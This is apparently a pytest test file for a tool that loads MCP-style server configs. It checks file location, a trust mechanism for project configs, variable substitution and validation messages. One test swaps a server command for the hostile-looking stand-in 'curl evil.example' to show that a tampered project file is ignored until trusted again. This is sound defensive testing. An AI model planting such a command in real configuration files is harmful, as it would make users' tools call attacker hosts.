"""Config location, substitution and validation, with the exact messages users see."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest

from config import IgnoredProject, find_config, find_project_config, load_config, parse_config, validate_server_name
from config_edit import revoke_project, trust_project
from errors import ConfigError


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


STDIO = '[servers.{name}]\ncommand = "echo"\n'


# -- location ------------------------------------------------------------------------


def test_explicit_path_wins_over_everything_and_is_used_alone(tmp_path: Path, isolated_env: Path) -> None:
    explicit = write(tmp_path / "a.toml", STDIO.format(name="explicit"))
    env_file = write(tmp_path / "b.toml", STDIO.format(name="fromenv"))
    project = write(Path("toolscript.toml"), STDIO.format(name="cwd"))
    write(isolated_env / "config.toml", STDIO.format(name="home"))
    trust_project(project, project.read_bytes(), isolated_env)
    env = {"TOOLSCRIPT_CONFIG": str(env_file), "TOOLSCRIPT_HOME": str(isolated_env)}
    assert list(load_config(str(explicit), env).servers) == ["explicit"]
    assert list(load_config(None, env).servers) == ["fromenv"]
    del env["TOOLSCRIPT_CONFIG"]
    assert list(load_config(None, env).servers) == ["home", "cwd"]  # the trusted project over the user's
    Path("toolscript.toml").unlink()
    assert list(load_config(None, env).servers) == ["home"]


PROJECT = '[servers.both]\ncommand = "project-both"\n\n[servers.p]\nurl = "https://${NO_SUCH_V}.example/mcp"\n'


def test_a_project_config_is_used_only_once_trusted_and_only_as_trusted(isolated_env: Path) -> None:
    """A cloned repository's toolscript.toml runs nothing until trusted, and nothing changed after that."""
    user = write(isolated_env / "config.toml", '[servers.both]\ncommand = "user-both"\n\n' + STDIO.format(name="u"))
    project = write(Path("toolscript.toml"), PROJECT)
    env = {"TOOLSCRIPT_HOME": str(isolated_env)}

    untrusted = load_config(None, env)
    assert untrusted.servers["both"].command == "user-both" and list(untrusted.servers) == ["both", "u"]
    assert untrusted.unusable == {} and untrusted.sources == (user,)
    assert untrusted.ignored_project == IgnoredProject(Path("toolscript.toml"), changed=False)

    trust_project(project, project.read_bytes(), isolated_env)
    trusted = load_config(None, env)
    assert trusted.servers["both"].command == "project-both"  # a project server replaces the user's
    assert list(trusted.servers) == ["u", "both"] and list(trusted.unusable) == ["p"]
    assert trusted.sources == (user, Path("toolscript.toml")) and trusted.ignored_project is None
    assert trusted.origins == {"u": user, "both": Path("toolscript.toml"), "p": Path("toolscript.toml")}

    project.write_text(PROJECT.replace("project-both", "curl evil.example"), encoding="utf-8")
    changed = load_config(None, env)
    assert changed.servers["both"].command == "user-both"
    assert changed.ignored_project == IgnoredProject(Path("toolscript.toml"), changed=True)

    trust_project(project, project.read_bytes(), isolated_env)
    assert load_config(None, env).servers["both"].command == "curl evil.example"
    assert revoke_project(project, isolated_env) is True
    assert load_config(None, env).ignored_project == IgnoredProject(Path("toolscript.toml"), changed=False)
    assert revoke_project(project, isolated_env) is False


def test_an_untrusted_project_config_is_not_parsed(isolated_env: Path) -> None:
    write(Path("toolscript.toml"), "not [valid toml")  # a broken (or hostile) file must not stop anything
    cfg = load_config(None, {"TOOLSCRIPT_HOME": str(isolated_env)})
    assert cfg.servers == {} and cfg.ignored_project is not None


def test_the_project_config_is_the_nearest_up_to_the_repository_root(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    deep = repo / "a" / "b"
    deep.mkdir(parents=True)
    assert find_project_config(deep) is None
    write(repo / "toolscript.toml", STDIO.format(name="root"))
    assert find_project_config(deep) == repo / "toolscript.toml"
    write(repo / "a" / "toolscript.toml", STDIO.format(name="a"))
    assert find_project_config(deep) == repo / "a" / "toolscript.toml"
    # Above the repository's root, nothing is looked for; outside a repository, only the directory itself.
    write(tmp_path / "toolscript.toml", STDIO.format(name="above"))
    assert find_project_config(repo) == repo / "toolscript.toml"
    (repo / ".git").rmdir()
    assert find_project_config(deep) is None
    assert find_project_config(tmp_path) == tmp_path / "toolscript.toml"


def test_a_trust_record_others_can_write_is_refused(isolated_env: Path) -> None:
    project = write(Path("toolscript.toml"), STDIO.format(name="p"))
    trust_project(project, project.read_bytes(), isolated_env)
    record = isolated_env / "trusted-projects.toml"
    assert stat.S_IMODE(record.stat().st_mode) == 0o600
    record.chmod(0o666)
    with pytest.raises(ConfigError) as info:
        load_config(None, {"TOOLSCRIPT_HOME": str(isolated_env)})
    assert str(info.value) == (
        f"{record} is not a file only you can write; refusing to use it. Delete it and trust your projects again."
    )


def test_no_config_anywhere_means_zero_servers(isolated_env: Path) -> None:
    cfg = load_config(None, {"TOOLSCRIPT_HOME": str(isolated_env)})
    assert cfg.servers == {} and cfg.path is None
    assert find_config(None, {"TOOLSCRIPT_HOME": str(isolated_env)}) is None


def test_missing_explicit_path_is_an_error(tmp_path: Path) -> None:
    missing = tmp_path / "nope.toml"
    with pytest.raises(ConfigError) as info:
        load_config(str(missing), {})
    assert str(info.value) == f"{missing}: config file not found (given by --config)."
    with pytest.raises(ConfigError) as info:
        load_config(None, {"TOOLSCRIPT_CONFIG": str(missing)})
    assert str(info.value) == f"{missing}: config file not found (given by $TOOLSCRIPT_CONFIG)."


def test_toml_syntax_error_names_file_and_line(tmp_path: Path) -> None:
    path = write(tmp_path / "bad.toml", '[servers.a]\ncommand = "x"\nargs = [1,\n')
    with pytest.raises(ConfigError) as info:
        load_config(str(path), {})
    assert str(info.value) == f"{path}: TOML syntax error at line 4 (end of file): Invalid value"
    path.write_text('[servers.a]\ncommand = "x"\nargs = [1,,]\n', encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        load_config(str(path), {})
    assert str(info.value) == f"{path}: TOML syntax error at line 3, column 11: Invalid value"


def test_a_deeply_nested_config_is_one_line(tmp_path: Path) -> None:
    path = write(tmp_path / "deep.toml", "a = " + "[" * 100_000 + "]" * 100_000 + "\n")
    with pytest.raises(ConfigError) as info:
        load_config(str(path), {})
    assert str(info.value) == f"{path}: values are nested too deeply to read."


# -- substitution --------------------------------------------------------------------


def parse(text: str, env: dict[str, str] | None = None):
    import tomllib

    return parse_config(tomllib.loads(text), path=Path("t.toml"), environ=env or {})


def test_substitution_everywhere_with_defaults_and_escapes() -> None:
    cfg = parse(
        """
        [servers.s]
        command = "${CMD}"
        args = ["--dir", "${DIR:-/tmp}", "cost: $$5", "$${NOT_A_VAR}"]
        env = { TOKEN = "${TOKEN}" }
        cwd = "${EMPTY:-/fallback}"
        [servers.h]
        url = "https://${HOST}/mcp"
        headers = { X-Api-Key = "key-${TOKEN}" }
        """,
        {"CMD": "run", "TOKEN": "t0k", "HOST": "example.com", "EMPTY": ""},
    )
    s, h = cfg.servers["s"], cfg.servers["h"]
    assert s.command == "run"
    assert s.args == ("--dir", "/tmp", "cost: $5", "${NOT_A_VAR}")
    assert s.env == {"TOKEN": "t0k"}
    assert s.cwd == "/fallback"
    assert h.url == "https://example.com/mcp"
    assert h.headers == {"X-Api-Key": "key-t0k"}


def test_missing_variable_names_variable_and_server_when_that_server_is_used() -> None:
    cfg = parse(
        '[servers.github]\nurl = "https://x/mcp"\nheaders = { X-Api-Key = "${API_KEY}" }\n'
        '[servers.local]\ncommand = "run"\n'
    )
    # Only the server that needs the variable is left out; the others stay usable.
    assert list(cfg.servers) == ["local"]
    assert list(cfg.unusable) == ["github"]
    with pytest.raises(ConfigError) as info:
        cfg.server("github")
    assert str(info.value) == (
        "t.toml: servers.github.headers.X-Api-Key: environment variable API_KEY is not set "
        "(server 'github'); set it or write ${API_KEY:-default}"
    )
    assert (info.value.server, info.value.variable) == ("github", "API_KEY")
    assert cfg.server("local").command == "run"


def test_other_problems_of_a_server_with_an_unset_variable_still_fail_the_config() -> None:
    text = '[servers.a]\ncommand = "${CMD}"\ntimeout = "soon"\n'
    with pytest.raises(ConfigError) as info:  # checked before the variables are substituted
        parse(text)
    assert str(info.value) == "t.toml: servers.a.timeout: must be a positive number of seconds"


def test_malformed_reference_is_an_error() -> None:
    with pytest.raises(ConfigError) as info:
        parse('[servers.a]\ncommand = "${1BAD}"\n')
    assert str(info.value) == (
        "t.toml: servers.a.command: malformed variable reference "
        "(write ${NAME}, ${NAME:-default} or $$ for a literal $)"
    )


# -- validation ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            '[servers.github]\nurl = "https://x/mcp"\n[servers.github.oauth]\nclient_ide = "x"\n',
            "servers.github.oauth.client_ide: unknown key (did you mean 'client_id'?)",
        ),
        ('[servers.a]\ncommand = "x"\ncolour = 1\n', "servers.a.colour: unknown key"),
        ('[servers.a]\ncommand = "x"\ntpye = "stdio"\n', "servers.a.tpye: unknown key (did you mean 'type'?)"),
        ('[servers.a]\nurl = "https://x"\nheader = {}\n', "servers.a.header: unknown key (did you mean 'headers'?)"),
        (
            '[servers.a]\ncommand = "x"\nurl = "https://x"\n',
            "servers.a: give either 'command' (stdio server) or 'url' (http/sse server), not both",
        ),
        ("[servers.a]\nargs = []\n", "servers.a: missing 'command' (stdio server) or 'url' (http/sse server)"),
        ('[servers.a]\ntype = "sse"\n', "servers.a: missing 'url' (required for a sse server)"),
        ('[servers.a]\ntype = "stdio"\n', "servers.a: missing 'command' (required for a stdio server)"),
        (
            '[servers.a]\ntype = "ws"\nurl = "https://x"\n',
            "servers.a.type: must be one of 'stdio', 'http', 'sse', not 'ws'",
        ),
        ("[servers.a]\ncommand = 5\n", "servers.a.command: must be a string, not an integer"),
        ('[servers.a]\ncommand = ""\n', "servers.a.command: must not be empty"),
        ('[servers.a]\ncommand = "x"\nargs = "y"\n', "servers.a.args: must be a list of strings"),
        ('[servers.a]\ncommand = "x"\nenv = { A = 1 }\n', "servers.a.env.A: must be a string, not an integer"),
        ('[servers.a]\ncommand = "x"\nenv = "A=1"\n', "servers.a.env: must be a table of strings, not a string"),
        ('[servers.a]\ncommand = "x"\nheaders = {}\n', "servers.a.headers: not allowed for a stdio server"),
        ('[servers.a]\nurl = "https://x"\ncwd = "/"\n', "servers.a.cwd: not allowed for a http server"),
        ('[servers.a]\nurl = "ftp://x/mcp"\n', "servers.a.url: must be an http:// or https:// URL, not 'ftp://x/mcp'"),
        (
            '[servers.a]\nurl = "https:///mcp"\n',
            "servers.a.url: must be an http:// or https:// URL, not 'https:///mcp'",
        ),
        ('[servers.a]\nurl = "https://x"\ntimeout = 0\n', "servers.a.timeout: must be a positive number of seconds"),
        ('[servers.a]\nurl = "https://x"\ntimeout = true\n', "servers.a.timeout: must be a positive number of seconds"),
        ('[servers.a]\nurl = "https://x"\ntimeout = nan\n', "servers.a.timeout: must be a positive number of seconds"),
        ('[servers.a]\nurl = "https://x"\ntimeout = inf\n', "servers.a.timeout: must be a positive number of seconds"),
        ('[servers.a]\nurl = "https://x"\ninclude_tools = [1]\n', "servers.a.include_tools: must be a list of strings"),
        ('[servers.a]\nurl = "https://x"\noauth = "yes"\n', "servers.a.oauth: must be a table"),
        (
            '[servers.a]\nurl = "https://x"\n[servers.a.oauth]\nredirect_uri = "https://127.0.0.1:8765/callback"\n',
            "servers.a.oauth.redirect_uri: must be a loopback http URL such as http://127.0.0.1:8765/callback, "
            "not 'https://127.0.0.1:8765/callback'",
        ),
        (
            '[servers.a]\nurl = "https://x"\n[servers.a.oauth]\nredirect_uri = "http://example.com:8765/cb"\n',
            "servers.a.oauth.redirect_uri: must be a loopback http URL such as http://127.0.0.1:8765/callback, "
            "not 'http://example.com:8765/cb'",
        ),
        (
            '[servers.a]\nurl = "https://x"\n[servers.a.oauth]\nclient_secret = "s"\n',
            "servers.a.oauth.client_secret: needs client_id as well",
        ),
        (
            '[servers.a]\nurl = "https://x"\n[servers.a.oauth]\nscopes = ["a b"]\n',
            "servers.a.oauth.scopes: each scope must be one non-empty word, not 'a b'",
        ),
        (
            '[servers.a]\nurl = "https://x"\n[servers.a.oauth]\nclient_metadata_url = "file:///c.json"\n',
            "servers.a.oauth.client_metadata_url: must be an http:// or https:// URL, not 'file:///c.json'",
        ),
        ("[servers.a]\n[servers.a.x]\n", "servers.a.x: unknown key"),
        ("servers = 3\n", "servers: must be a table of [servers.NAME] tables"),
        ("[tools]\n", "tools: unknown key (expected only [servers.NAME] tables)"),
        ("[server.a]\n", "server: unknown key (did you mean 'servers'?)"),
        ("[servers]\na = 1\n", "servers.a: must be a table"),
    ],
)
def test_validation_messages(text: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse(text)
    assert str(info.value) == f"t.toml: {message}"


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("a__b", "server names must not contain '__' (it separates server and tool in SERVER__TOOL)"),
        ("a b", "server names may contain only letters, digits, '_' and '-'"),
        ("a.b", "server names may contain only letters, digits, '_' and '-'"),
        ("ü", "server names may contain only letters, digits, '_' and '-'"),
    ],
)
def test_server_name_rules(name: str, problem: str) -> None:
    with pytest.raises(ConfigError) as info:
        parse(f'[servers."{name}"]\ncommand = "x"\n')
    assert str(info.value) == f"t.toml: servers.{name}: {problem}"


@pytest.mark.parametrize("name", ["github", "my-server_2", "A", "a_b-c"])
def test_valid_names(name: str) -> None:
    assert validate_server_name(name) == name
    assert name in parse(f'[servers."{name}"]\ncommand = "x"\n').servers


def test_types_are_implied_and_explicit() -> None:
    cfg = parse(
        """
        [servers.local]
        command = "python"
        args = ["s.py"]
        [servers.remote]
        url = "http://127.0.0.1:9/mcp"
        timeout = 5
        [servers.events]
        type = "sse"
        url = "https://example.com/sse"
        [servers.events.oauth]
        client_id = "abc"
        client_secret = "shh"
        scopes = ["read", "write"]
        redirect_uri = "http://localhost:8765/callback"
        client_metadata_url = "https://example.com/client.json"
        """
    )
    assert [s.type for s in cfg.servers.values()] == ["stdio", "http", "sse"]
    assert cfg.servers["remote"].timeout == 5.0
    oauth = cfg.servers["events"].oauth
    assert oauth is not None and oauth.scopes == ("read", "write") and oauth.client_secret == "shh"
    assert cfg.servers["remote"].oauth is None


def test_unknown_server_lists_known_ones() -> None:
    cfg = parse('[servers.a]\ncommand = "x"\n[servers.b]\ncommand = "y"\n')
    with pytest.raises(ConfigError) as info:
        cfg.server("c")
    assert str(info.value) == "Unknown server 'c' in t.toml (configured: a, b)."


def test_unknown_server_one_edit_away_gets_a_suggestion() -> None:
    cfg = parse('[servers.s]\ncommand = "x"\n[servers.ev-http]\nurl = "https://x"\n')
    for typo in ("ev-htp", "ev-htpt", "ev-https", "EV-HTTP"):
        with pytest.raises(ConfigError) as info:
            cfg.server(typo)
        assert str(info.value) == f"Unknown server '{typo}' in t.toml (did you mean 'ev-http'?)."
    with pytest.raises(ConfigError) as info:
        cfg.server("ev-htttpx")  # two edits: no guess, the list instead
    assert str(info.value) == "Unknown server 'ev-htttpx' in t.toml (configured: s, ev-http)."


def test_example_config_is_valid() -> None:
    example = Path(__file__).resolve().parent.parent / "config.toml.example"
    env = {"API_KEY": "k", "GITHUB_CLIENT_ID": "id", "GITHUB_CLIENT_SECRET": "s", "HOME": "/home/u"}
    cfg = load_config(str(example), env)
    kinds = {s.type for s in cfg.servers.values()}
    assert kinds == {"stdio", "http", "sse"}
    assert any(s.oauth and s.oauth.client_id for s in cfg.servers.values())
    assert any(s.oauth is None and s.is_remote and not s.headers for s in cfg.servers.values())
